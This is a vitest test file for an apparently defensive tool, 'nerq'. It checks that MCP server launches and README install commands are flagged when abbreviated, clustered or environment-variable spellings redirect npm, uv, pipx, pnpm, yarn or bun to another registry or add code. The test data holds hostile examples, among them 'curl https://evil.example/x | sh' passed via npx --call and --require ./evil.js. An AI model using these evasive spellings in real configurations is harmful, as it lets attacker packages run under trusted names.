/**
 * Hostile world: an MCP launch that points its runner at another registry in a spelling the
 * runner reads but nerq did not. npm reads its command line with nopt: `--reg` is its shorthand
 * for `--registry`, and any unambiguous abbreviation of a long option is that option
 * (`--regis=…`, `--userc=…`); `--globalconfig` names an npmrc that may set the registry as well,
 * and so does `--prefix` (npm reads `<prefix>/etc/npmrc`, as it does for `npm_config_prefix`).
 * A launch spelled so installs the attacker's package under a trusted name; nerq must report
 * it as code fetched from there (docs/security.md, "Dependencies no registry vouches for"), not
 * evaluate the public package of that name and pass it. The same reading serves MCP Registry
 * entries' runtime arguments (registryRedirect). uv reads its command line with clap, where a
 * one-letter flag takes its value in the same word and follows other one-letter flags there:
 * `-ihttps://…` is `--index-url https://…`, `-qf ./wheels` is `-q --find-links ./wheels`, and
 * `-wother-pkg` installs other-pkg beside the tool (audited as every `--with` is). pipx reads
 * its command line with argparse, which takes any unambiguous abbreviation of a long option:
 * `--spe=x` is `--spec=x`, `--ind URL` is `--index-url URL`; and its `--with` installs a package
 * beside the app as uv's does.
 */
import { describe, expect, it } from 'vitest';
import { mapLaunch } from '../../src/audit/mcp/launch.js';
import { runnerAddsCode } from '../../src/ecosystems/mcp/runner-code.js';
import { registryRedirect } from '../../src/ecosystems/registry-redirect.js';
import { advertisedInstalls } from '../../src/sources/github/readme-installs.js';
import { noteCases } from './support/metrics.js';

const PUBLIC = ['https://registry.example/', 'https://pypi.example'];
const NPM_PACKAGE = '@modelcontextprotocol/server-filesystem';

/** [label, npx arguments, where the package then comes from]. */
const NPM_SPELLINGS: [string, string[], string][] = [
  ['--reg=URL (npm shorthand)', ['--reg=https://evil.example/', '-y', NPM_PACKAGE], 'https://evil.example/'],
  ['--reg URL (npm shorthand, value apart)', ['--reg', 'https://evil.example/', '-y', NPM_PACKAGE], 'https://evil.example/'],
  ['-reg=URL (one dash)', ['-reg=https://evil.example/', '-y', NPM_PACKAGE], 'https://evil.example/'],
  ['--regis=URL (abbreviated)', ['-y', '--regis=https://evil.example/', NPM_PACKAGE], 'https://evil.example/'],
  ['--registr URL (abbreviated, value apart)', ['-y', '--registr', 'https://evil.example/', NPM_PACKAGE], 'https://evil.example/'],
  ['--userc=FILE (abbreviated userconfig)', ['--userc=./evil.npmrc', '-y', NPM_PACKAGE], './evil.npmrc'],
  ['--globalconfig=FILE', ['--globalconfig=./evil.npmrc', '-y', NPM_PACKAGE], './evil.npmrc'],
  ['--globalc FILE (abbreviated)', ['--globalc', './evil.npmrc', '-y', NPM_PACKAGE], './evil.npmrc'],
  ['--prefix DIR (npm reads DIR/etc/npmrc)', ['--prefix', './evil', '-y', NPM_PACKAGE], './evil'],
  ['--prefi=DIR (abbreviated)', ['-y', '--prefi=./evil', NPM_PACKAGE], './evil'],
];

const PYPI_PACKAGE = 'mcp-server-fetch';

/** [label, uvx arguments, where the package then comes from]. */
const UV_SPELLINGS: [string, string[], string][] = [
  ['-iURL (value in the same word)', ['-ihttps://evil.example/simple', PYPI_PACKAGE], 'https://evil.example/simple'],
  ['-fURL (find-links in the same word)', ['-fhttps://evil.example/wheels', PYPI_PACKAGE], 'https://evil.example/wheels'],
  ['-qiURL (after another one-letter flag)', ['-qihttps://evil.example/simple', PYPI_PACKAGE], 'https://evil.example/simple'],
  ['-qf DIR (clustered, value apart)', ['-qf', './wheels', PYPI_PACKAGE], './wheels'],
];

const PIPX_REDIRECTS: [string, string[], string][] = [
  ['--ind URL (abbreviated --index-url)', ['run', '--ind', 'https://evil.example/simple', PYPI_PACKAGE], 'https://evil.example/simple'],
  ['--index-u=URL (abbreviated --index-url)', ['run', '--index-u=https://evil.example/simple', PYPI_PACKAGE], 'https://evil.example/simple'],
  ['--pi=ARGS (abbreviated --pip-args)', ['run', '--pi=--index-url https://evil.example/simple', PYPI_PACKAGE], '--index-url https://evil.example/simple'],
  ['-iURL (value in the same word)', ['run', '-ihttps://evil.example/simple', PYPI_PACKAGE], 'https://evil.example/simple'],
];

describe('hostile: a launch that names another registry in a spelling its runner reads', () => {
  it.for(NPM_SPELLINGS)('npx %s: fetched from there, with the package named', ([, args, source], { task }) => {
    noteCases(task);
    const launch = mapLaunch({ command: 'npx', args });
    expect(launch.kind).toBe('fetched');
    if (launch.kind !== 'fetched') return;
    expect(launch.code).toEqual([expect.objectContaining({ ecosystem: 'npm', name: NPM_PACKAGE, source })]);
  });

  it.for(NPM_SPELLINGS)('an MCP Registry entry whose runtime arguments hold %s is redirected', ([, args, source]) => {
    expect(registryRedirect('npm', args, [], PUBLIC)?.source).toBe(source);
  });

  it.for(UV_SPELLINGS)('uvx %s: fetched from there, with the package named', ([, args, source], { task }) => {
    noteCases(task);
    const launch = mapLaunch({ command: 'uvx', args });
    expect(launch.kind).toBe('fetched');
    if (launch.kind !== 'fetched') return;
    expect(launch.code).toEqual([expect.objectContaining({ ecosystem: 'pypi', name: PYPI_PACKAGE, source })]);
  });

  it.for(UV_SPELLINGS)('an MCP Registry entry whose runtime arguments hold %s is redirected', ([, args, source]) => {
    expect(registryRedirect('pypi', args, [], PUBLIC)?.source).toBe(source);
  });

  it('uvx -wPKG and -qwPKG install PKG beside the tool: both are audited', ({ task }) => {
    for (const word of ['-wother-pkg', '-qwother-pkg', '-w=other-pkg']) {
      noteCases(task);
      const launch = mapLaunch({ command: 'uvx', args: [word, PYPI_PACKAGE] });
      expect(launch.kind, word).toBe('package');
      if (launch.kind !== 'package') continue;
      expect([launch.name, ...launch.extra.map((p) => p.name)], word).toEqual([PYPI_PACKAGE, 'other-pkg']);
    }
  });

  it.for(PIPX_REDIRECTS)('pipx run %s: fetched from there, with the app named', ([, args, source], { task }) => {
    noteCases(task);
    const launch = mapLaunch({ command: 'pipx', args });
    expect(launch.kind).toBe('fetched');
    if (launch.kind !== 'fetched') return;
    expect(launch.code).toEqual([expect.objectContaining({ ecosystem: 'pypi', name: PYPI_PACKAGE, source })]);
  });

  it('pipx run --spe=PKG (abbreviated --spec) runs PKG: PKG is what is audited', ({ task }) => {
    noteCases(task);
    const launch = mapLaunch({ command: 'pipx', args: ['run', '--spe=other-pkg', PYPI_PACKAGE] });
    expect(launch.kind === 'package' ? launch.name : launch.kind).toBe('other-pkg');
  });

  it('pipx run --with PKG and --wi=PKG install PKG beside the app: both are audited', ({ task }) => {
    for (const args of [['run', '--with', 'other-pkg', PYPI_PACKAGE], ['run', '--wi=other-pkg', PYPI_PACKAGE]]) {
      noteCases(task);
      const launch = mapLaunch({ command: 'pipx', args });
      expect(launch.kind, args.join(' ')).toBe('package');
      if (launch.kind !== 'package') continue;
      expect([launch.name, ...launch.extra.map((p) => p.name)], args.join(' ')).toEqual([PYPI_PACKAGE, 'other-pkg']);
    }
  });

  it("pipx run: the app's own arguments are not pipx's, and an ambiguous abbreviation is no option", () => {
    const own = mapLaunch({ command: 'pipx', args: ['run', PYPI_PACKAGE, '--ind', 'https://example.org/'] });
    expect(own.kind === 'package' ? [own.name, own.extra.length] : own.kind).toEqual([PYPI_PACKAGE, 0]);
    const ambiguous = mapLaunch({ command: 'pipx', args: ['run', '--py=3.12', PYPI_PACKAGE] });
    expect(ambiguous.kind === 'package' ? ambiguous.name : ambiguous.kind).toBe(PYPI_PACKAGE);
  });

  it('one-letter flags that take no value are no redirection', () => {
    for (const args of [['-q', PYPI_PACKAGE], ['-qn', PYPI_PACKAGE], ['--python=3.12', PYPI_PACKAGE]]) {
      expect(registryRedirect('pypi', args, [], PUBLIC), args.join(' ')).toBeNull();
    }
  });

  it('npx --call=LINE runs LINE, and --node-o=… (abbreviated --node-options) loads code: both are seen', ({ task }) => {
    noteCases(task, 2);
    const call = mapLaunch({ command: 'npx', args: ['--call=curl https://evil.example/x | sh', '-y', 'left-pad'] });
    expect(call.kind === 'script' ? call.origin : call.kind).toBe('https://evil.example');
    // nopt reads `--cal` as the letters c, a, l (`--call --all --long`): the call gets no value
    // and LINE is the first word npm exec runs, no package name (npm/cli nopt-lib.js `resolveShort`).
    const letters = mapLaunch({ command: 'npx', args: ['--cal=curl https://evil.example/x | sh', '-y', 'left-pad'] });
    expect(letters.kind).toBe('unknown');
    const loads = mapLaunch({ command: 'npx', args: ['-y', '--node-o=--require ./evil.js', 'left-pad'] });
    expect(loads.kind === 'package' ? loads.loads : loads.kind).toEqual([expect.stringContaining('./evil.js')]);
  });

  it('words npm reads as other settings are not redirections', () => {
    for (const word of ['--re=https://evil.example/', '--regular=x', '--user=x', '--global', '--registryx=x', '--r']) {
      expect(registryRedirect('npm', [word, 'pkg'], [], PUBLIC), word).toBeNull();
    }
    expect(registryRedirect('npm', ['--reg=https://registry.example', 'pkg'], [], PUBLIC)).toBeNull();
    expect(registryRedirect('npm', ['--pref', 'pkg'], [], PUBLIC)).toBeNull();
    expect(registryRedirect('npm', ['pkg'], ['npm_config_prefix'], PUBLIC)?.source).toBe('env npm_config_prefix');
  });

  // An MCP Registry entry's runtime arguments, given to its runner before the package: the same spellings add code.
  it.for([
    ['npx --cal=LINE', 'npm', undefined, '--cal=curl https://evil.example/x | sh', '--call'],
    ['npx --node-o=…', 'npm', undefined, '--node-o=--require ./evil.js', '--node-options'],
    ['uvx -wother-pkg', 'pypi', 'uvx', '-wother-pkg', '-w'],
    ['uvx -qw other-pkg', 'pypi', 'uvx', '-qw', '-w'],
    ['python -Bc CODE', 'pypi', 'python', '-Bc', '-c'],
    ['pipx --spe=other-pkg', 'pypi', 'pipx', '--spe=other-pkg', '--spec'],
    ['pipx --wi other-pkg', 'pypi', 'pipx', '--wi', '--with'],
  ] as const)('an MCP Registry entry whose runtime arguments hold %s adds code', ([, ecosystem, hint, word, flag], { task }) => {
    noteCases(task);
    expect(runnerAddsCode(ecosystem, [{ value: word }], hint)).toBe(flag);
  });

  // npx reads the entry's runtime arguments and the package after them as npm does (npm/exec-argv.ts):
  // `-yc LINE` is `--yes --call LINE`, `-yC DIR` is `--yes --prefix DIR`, in a cluster as alone.
  it('an MCP Registry entry whose runtime arguments hold npx -yc LINE adds code, and -yC DIR is redirected', ({ task }) => {
    noteCases(task, 2);
    expect(runnerAddsCode('npm', [{ name: '-yc', value: 'curl https://evil.example/x | sh' }], 'npx', NPM_PACKAGE)).toBe('--call');
    expect(registryRedirect('npm', ['-yC', './evil'], [], PUBLIC)?.source).toBe('./evil');
  });

  it('one-letter clusters that hold no code flag before a value flag add none', () => {
    for (const [word, hint] of [['-qn', 'uvx'], ['-Walways', 'python'], ['-Xwarn_default_encoding', 'python'], ['-pw', 'uvx']] as const) {
      expect(runnerAddsCode('pypi', [{ value: word }], hint), word).toBeNull();
    }
  });

  // A repository's README tells people what to run (docs/scoring.md §9): a package it installs in such a spelling is one it advertises.
  it('a README command that installs a second package in such a spelling advertises that package', ({ task }) => {
    const lines = [
      'uvx -wreadme-payload-a own-tool',
      'uvx -qw readme-payload-b own-tool',
      'pipx run --with readme-payload-c own-app',
      'pipx run --wi=readme-payload-d own-app',
      "npx -yc 'npx -y readme-payload-e' own-mcp",
    ];
    noteCases(task, lines.length);
    const names = advertisedInstalls(['```sh', ...lines, '```'].join('\n')).map((i) => i.name);
    for (const letter of ['a', 'b', 'c', 'd', 'e']) expect(names, letter).toContain(`readme-payload-${letter}`);
  });
});

/**
 * npx and npm exec read their words with npx's rewrite and nopt (ecosystems/npm/exec-argv.ts):
 * an option that is no switch takes the next word, in a cluster of one-letter shorthands as
 * alone, so a trusted name placed there is an option's value and the word after it is what runs.
 */
describe('hostile: npm clustered short flags and value options hide the package that runs', () => {
  const TRUSTED = '@modelcontextprotocol/server-filesystem';
  const EVIL = 'server-filesystem-helper';
  const RUNS: [label: string, command: string, args: string[], runs: string][] = [
    ['npx -yL TRUSTED EVIL (-L is --location, it takes TRUSTED)', 'npx', ['-yL', TRUSTED, EVIL], EVIL],
    ['npx -L TRUSTED EVIL', 'npx', ['-L', TRUSTED, EVIL], EVIL],
    ['npx -ym TRUSTED EVIL (--message)', 'npx', ['-ym', TRUSTED, EVIL], EVIL],
    ['npx -qyw TRUSTED EVIL (--workspace)', 'npx', ['-qyw', TRUSTED, EVIL], EVIL],
    ['npx --tag TRUSTED EVIL', 'npx', ['--tag', TRUSTED, EVIL], EVIL],
    ['npx --loglevel TRUSTED EVIL', 'npx', ['--loglevel', TRUSTED, EVIL], EVIL],
    ['npx --before TRUSTED EVIL', 'npx', ['--before', TRUSTED, EVIL], EVIL],
    ['npx --locat TRUSTED EVIL (abbreviated --location)', 'npx', ['-y', '--locat', TRUSTED, EVIL], EVIL],
    ['npx --loca EVIL TRUSTED (--loca abbreviates the shorthand --local, a switch)', 'npx', ['-y', '--loca', EVIL, TRUSTED], EVIL],
    ['npx --yes=EVIL TRUSTED (a switch leaves its value a word)', 'npx', ['--yes=' + EVIL, TRUSTED], EVIL],
    ['npm exec -yL TRUSTED -- EVIL', 'npm', ['exec', '-yL', TRUSTED, '--', EVIL], EVIL],
    ['npm exec --tag=TRUSTED EVIL', 'npm', ['exec', '--tag=x', EVIL], EVIL],
    // Held: the word after the cluster is what runs either way.
    ['npx -yp EVIL TRUSTED (-p in a cluster is --parseable; EVIL is the first word)', 'npx', ['-yp', EVIL, TRUSTED], EVIL],
    ['npx -y -p EVIL TRUSTED (--package EVIL)', 'npx', ['-y', '-p', EVIL, TRUSTED], EVIL],
    ['npm exec -p EVIL -- TRUSTED (in npm exec -p is --parseable)', 'npm', ['exec', '-p', EVIL, '--', TRUSTED], EVIL],
    ['npx --unknown EVIL TRUSTED (an unknown flag is a switch)', 'npx', ['--unknown', EVIL, TRUSTED], EVIL],
    ['npx -y --prefer-offline EVIL', 'npx', ['-y', '--prefer-offline', EVIL], EVIL],
    ['npx -yd EVIL (-d is --loglevel info, its value included)', 'npx', ['-yd', EVIL], EVIL],
  ];
  it.for(RUNS)('%s', ([, command, args, runs], { task }) => {
    noteCases(task);
    const launch = mapLaunch({ command, args });
    expect(launch.kind === 'package' ? launch.name : launch.kind).toBe(runs);
  });

  it('npx -yC DIR EVIL reads DIR as --prefix (npm then reads DIR/etc/npmrc): code fetched from where it points', ({ task }) => {
    noteCases(task);
    expect(mapLaunch({ command: 'npx', args: ['-yC', './conf', EVIL] }).kind).toBe('fetched');
  });
});

/**
 * npm takes its global prefix from the PREFIX variable (and, on Unix, puts DESTDIR in front of
 * it), and reads its global npmrc at `<prefix>/etc/npmrc`, which may set the registry (npm/cli
 * workspaces/config/lib/index.js `loadGlobalPrefix`): an MCP launch whose `env` names either is
 * redirected as one naming `npm_config_prefix` is. No environment variable the MCP Registry seed
 * declares (312, 2025-09-29) nor any recorded client configuration is named so; names that only
 * hold the word (`API_PREFIX`) are other settings.
 */
describe('hostile: PREFIX and DESTDIR in an npm launch env move npm global npmrc', () => {
  it.for(['PREFIX', 'prefix', 'DESTDIR'])('%s', (name, { task }) => {
    noteCases(task);
    expect(registryRedirect('npm', ['pkg'], [name], PUBLIC)?.source).toBe(`env ${name}`);
    const launch = mapLaunch({ command: 'npx', args: ['-y', NPM_PACKAGE], env: { [name]: '/srv/conf' } });
    expect(launch.kind).toBe('fetched');
  });

  it('settings that only hold the word, and a PyPI launch, are not redirected', ({ task }) => {
    noteCases(task);
    for (const name of ['API_PREFIX', 'PREFIX_PATH', 'TOOL_PREFIX', 'npm_config_tag']) expect(registryRedirect('npm', ['pkg'], [name], PUBLIC), name).toBeNull();
    expect(registryRedirect('pypi', ['pkg'], ['PREFIX'], PUBLIC)).toBeNull();
  });
});

/**
 * A README's install commands (sources/github/readme-installs.ts) are read with the same readers
 * as a launch (ecosystems/npm/exec-argv.ts, dlx-argv.ts): the package a README advertises is the
 * one its runner would run, never a second reading of the same words; a command pointed at another
 * registry, or one its runner's reading leaves uncertain, advertises no package of the public
 * registry (docs/scoring.md §9, "What it distributes").
 */
describe('hostile: a README install names what its runner would run', () => {
  const TRUSTED = 'trusted-mcp';
  const EVIL = 'evil-payload';
  const readme = (line: string) => advertisedInstalls(['```sh', line, '```'].join('\n'), { npm: PUBLIC, pypi: [] }).map((i) => i.name);
  /** What the launch of the same words installs: its package and those beside it, or nothing. */
  const launched = (command: string, args: string[]): string[] => {
    const launch = mapLaunch({ command, args });
    return launch.kind === 'package' ? [launch.name, ...launch.extra.map((e) => e.name)] : [];
  };
  const SAME: [command: string, args: string[]][] = [
    ['npx', ['-yc', EVIL, TRUSTED]],
    ['npx', ['--package=' + EVIL, TRUSTED]],
    ['npx', ['-y', '--tag', 'latest', TRUSTED]],
    ['npx', ['--yes=' + EVIL, TRUSTED]],
    ['npx', ['-yL', TRUSTED, EVIL]],
    ['npx', ['-y', '--reg', 'https://evil.example/', TRUSTED]],
    ['npx', ['-yC', './conf', TRUSTED]],
    ['npx', ['--regis=https://evil.example/', TRUSTED]],
    ['npx', ['--cal=' + EVIL, TRUSTED]],
    ['npm', ['exec', '-p', EVIL, '--', TRUSTED]],
    ['npm', ['x', '-y', TRUSTED]],
    ['npm', ['--registry=https://evil.example/', 'exec', TRUSTED]],
    ['pnpm', ['dlx', '-C', './conf', TRUSTED]],
    ['pnpm', ['--registry', 'https://evil.example/', 'dlx', TRUSTED]],
    ['pnpm', ['dlx', '--package=' + EVIL, TRUSTED]],
    ['pnpx', [TRUSTED]],
    ['yarn', ['dlx', '--pack', EVIL, TRUSTED]],
    ['yarn', ['dlx', '-p', EVIL, TRUSTED]],
    ['bunx', ['--registry', 'https://evil.example/', TRUSTED]],
    ['bun', ['x', '-p', EVIL, TRUSTED]],
  ];
  it.for(SAME)('%s %s', ([command, args], { task }) => {
    noteCases(task);
    expect(readme([command, ...args].join(' '))).toEqual(launched(command, args));
  });

  it('npm install read as npm reads its command line, and pnpm/yarn/bun add: another registry names nothing', ({ task }) => {
    const cases: [string, string[]][] = [
      [`npx -y --registry=https://registry.example/ ${TRUSTED}`, [TRUSTED]],
      [`npm i ${TRUSTED} --registry=https://evil.example/`, []],
      [`npm --reg https://evil.example/ install ${TRUSTED}`, []],
      [`npm i -C ./conf ${TRUSTED}`, []],
      [`npm i --userc=./evil.npmrc ${TRUSTED}`, []],
      [`npm i --save-prefix ~ ${TRUSTED}`, [TRUSTED]],
      [`npm i -w ws ${TRUSTED}`, [TRUSTED]],
      [`npm isnt --registry https://registry.example/ ${TRUSTED} ${EVIL}`, [TRUSTED, EVIL]],
      [`npm -g add ${TRUSTED}`, [TRUSTED]],
      [`pnpm add ${TRUSTED} --registry https://evil.example/`, []],
      [`pnpm add -C ./conf ${TRUSTED}`, []],
      [`pnpm add --config.registry=https://evil.example/ ${TRUSTED}`, []],
      [`yarn add ${TRUSTED} --registry=https://evil.example/`, []],
      [`yarn global add --registry https://evil.example/ ${TRUSTED}`, []],
      [`bun add --registry https://evil.example/ ${TRUSTED}`, []],
      [`pnpm add --registry https://registry.example/ ${TRUSTED}`, [TRUSTED]],
      [`yarn add -D ${TRUSTED}`, [TRUSTED]],
    ];
    noteCases(task, cases.length);
    for (const [line, names] of cases) expect(readme(line), line).toEqual(names);
  });
});

/**
 * pnpm, yarn and bun read options before their subcommand too (`pnpm -w add x`, `yarn --cwd dir
 * add x`): pnpm with nopt on both sides of it, yarn classic taking as its command the first word
 * that is neither a flag nor the value of one it knows, bun the first word that is no flag at all
 * (its value apart is then the command: `bun --cwd x add y` is `bun x`, which runs the package
 * `add`). A README install so written advertises what it adds — unless an option, before or after
 * the subcommand, points it at another registry or at a folder or file whose configuration it
 * reads (pnpm `-C`/`--dir`, yarn `--cwd`/`--use-yarnrc`, bun `--cwd`/`-c`/`--config`): then what
 * it installs is not the public package of that name (docs/scoring.md §9).
 */
describe('hostile: README installs with options before the subcommand', () => {
  const TRUSTED = 'trusted-mcp';
  const readme = (line: string) => advertisedInstalls(['```sh', line, '```'].join('\n'), { npm: PUBLIC, pypi: [] }).map((i) => i.name);
  const CASES: [line: string, names: string[]][] = [
    // Pointed elsewhere before the subcommand: nothing of the public registry.
    [`pnpm --registry https://evil.example add ${TRUSTED}`, []],
    [`pnpm --registry=https://evil.example add ${TRUSTED}`, []],
    [`pnpm -C ./vendored add ${TRUSTED}`, []],
    [`pnpm --dir x add ${TRUSTED}`, []],
    [`pnpm --dir=x install ${TRUSTED}`, []],
    [`pnpm --config.registry=https://evil.example add ${TRUSTED}`, []],
    [`yarn --cwd ./x add ${TRUSTED}`, []],
    [`yarn --cwd=./x add ${TRUSTED}`, []],
    [`yarn --registry https://evil.example add ${TRUSTED}`, []],
    [`yarn --use-yarnrc ./evil.yarnrc add ${TRUSTED}`, []],
    [`yarn --cwd x global add ${TRUSTED}`, []],
    [`yarn --cwd x dlx ${TRUSTED}`, []],
    [`bun --cwd x add ${TRUSTED}`, []],
    [`bun --cwd=x add ${TRUSTED}`, []],
    [`bun --registry=https://evil.example add ${TRUSTED}`, []],
    [`bun -c ./bunfig.toml add ${TRUSTED}`, []],
    [`npm --registry=https://evil.example install ${TRUSTED}`, []],
    [`npm --prefix x i ${TRUSTED}`, []],
    // The same options after the subcommand.
    [`yarn add --cwd x ${TRUSTED}`, []],
    [`yarn add ${TRUSTED} --cwd=x`, []],
    [`yarn add --use-yarnrc=./evil.yarnrc ${TRUSTED}`, []],
    [`bun add --cwd x ${TRUSTED}`, []],
    [`bun add -c ./bunfig.toml ${TRUSTED}`, []],
    [`bun add --config=./bunfig.toml ${TRUSTED}`, []],
    [`pnpm add --config.userconfig=./evil.npmrc ${TRUSTED}`, []],
    [`pnpm add --config.@acme:registry=https://evil.example @acme/${TRUSTED}`, []],
    // Options that move nothing: the package is advertised.
    [`pnpm -w add ${TRUSTED}`, [TRUSTED]],
    [`pnpm --filter web add ${TRUSTED}`, [TRUSTED]],
    [`pnpm -F web add ${TRUSTED}`, [TRUSTED]],
    [`pnpm --reporter silent add ${TRUSTED}`, [TRUSTED]],
    [`pnpm -g add ${TRUSTED}`, [TRUSTED]],
    [`pnpm --registry https://registry.example/ add ${TRUSTED}`, [TRUSTED]],
    [`yarn --silent add ${TRUSTED}`, [TRUSTED]],
    [`yarn --network-timeout 600000 add ${TRUSTED}`, [TRUSTED]],
    [`yarn --silent global add ${TRUSTED}`, [TRUSTED]],
    [`bun --silent add ${TRUSTED}`, [TRUSTED]],
    [`bun -g add ${TRUSTED}`, [TRUSTED]],
    [`bun add -p ${TRUSTED}`, [TRUSTED]],
    [`bun --silent x ${TRUSTED}`, [TRUSTED]],
    [`bun --verbose x --package evil-helper ${TRUSTED}`, ['evil-helper']],
    [`bun --cwd ./conf x ${TRUSTED}`, []],
    // A flag nerq does not read with certainty before the subcommand: nothing.
    [`pnpm --unknown-flag add ${TRUSTED}`, []],
    [`yarn --prod add ${TRUSTED}`, []],
    [`pnpm --config.globalconfig=./x add ${TRUSTED}`, []],
  ];
  it.for(CASES)('%s', ([line, names], { task }) => {
    noteCases(task);
    expect(readme(line)).toEqual(names);
  });
});

/**
 * bunx has no `--registry` (bun's documentation lists `--bun`, `-p/--package`, `--no-install`,
 * `--verbose`, `--silent`; oven-sh/bun#5361 asks for one), and its reader skips a flag it does not
 * know before the package, taking no value (src/cli/bunx_command.zig): `bunx --registry URL x` runs
 * URL — a tarball fetched from that host — with x as its argument; a bunx that honoured the flag
 * would install x from there. Either way the code comes from that host, never the public x: nerq
 * reads `--registry` as a redirection, in both spellings, in a launch and in a README.
 */
describe('hostile: bunx --registry', () => {
  const TRUSTED = '@modelcontextprotocol/server-filesystem';
  it.for([
    ['bunx --registry URL TRUSTED', 'bunx', ['--registry', 'https://evil.example/', TRUSTED]],
    ['bunx --registry=URL TRUSTED', 'bunx', ['--registry=https://evil.example/', TRUSTED]],
    ['bun x --registry URL TRUSTED', 'bun', ['x', '--registry', 'https://evil.example/', TRUSTED]],
  ] as const)('%s: code fetched from that host', ([, command, args], { task }) => {
    noteCases(task);
    const launch = mapLaunch({ command, args: [...args] });
    expect(launch.kind).toBe('fetched');
    if (launch.kind !== 'fetched') return;
    expect(launch.code.map((c) => c.host)).toEqual(['evil.example']);
    expect(advertisedInstalls(['```sh', [command, ...args].join(' '), '```'].join('\n'), { npm: PUBLIC, pypi: [] })).toEqual([]);
  });

  it('bunx --registry naming the public registry advertises the public package', () => {
    expect(advertisedInstalls(`\`bunx --registry=https://registry.example/ ${TRUSTED}\``, { npm: PUBLIC, pypi: [] }).map((i) => i.name)).toEqual([TRUSTED]);
  });
});
